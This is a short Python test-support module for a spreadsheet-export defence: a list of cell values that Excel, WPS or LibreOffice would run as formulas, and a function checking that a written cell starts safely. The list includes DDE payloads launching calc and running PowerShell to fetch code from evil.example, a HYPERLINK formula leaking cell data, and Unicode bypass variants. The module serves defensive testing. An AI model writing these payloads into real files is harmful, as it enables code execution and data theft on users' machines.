"""Text that a spreadsheet would run as a formula, and a test of a written cell that
does not trust the code under test (subsidy.exports.cells)."""

from __future__ import annotations

# Each would start a formula (or a DDE command) in Excel, WPS or LibreOffice if written as is.
HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击领取")',
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "\uff1d1+1",  # full-width equals sign
    "\uff0bcmd|' /C calc'!A0",  # full-width plus
    "\uff0d2+3",  # full-width minus
    "\uff20SUM(A1)",  # full-width at
    " =1+1",  # a space in front
    "\u3000=1+1",  # an ideographic space in front
    "\u200b=1+1",  # a zero-width space in front
    "\ufeff=1+1",  # a byte-order mark in front
    "\t\t@SUM(A1)",
]
DANGEROUS_FIRST = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b")
SKIPPABLE = " \u00a0\u3000\u200b\u200c\u200d\u2060\ufeff\t\r\n"


def starts_safely(value: str) -> bool:
    """Neither the first character nor the first after blanks and invisible characters
    may start a formula, unless the cell starts with the apostrophe that makes it text;
    the one exception is a tab followed by digits only (account numbers in the CSV)."""
    if not value or value.startswith("'"):
        return True
    if value.startswith("\t") and value[1:].isascii() and value[1:].isdigit():
        return True
    return value[0] not in DANGEROUS_FIRST and value.lstrip(SKIPPABLE)[:1] not in DANGEROUS_FIRST
